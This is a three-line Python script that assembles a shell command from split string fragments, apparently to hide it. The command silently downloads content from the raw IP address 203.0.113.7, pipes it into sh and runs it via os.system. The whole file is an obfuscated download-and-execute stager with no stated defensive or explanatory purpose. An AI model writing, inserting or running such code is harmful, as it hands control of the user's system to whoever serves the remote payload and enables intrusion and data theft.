import os
cmd = "cu" + "rl -s http://203.0.113.7/p | " + "sh"
os.system(cmd)
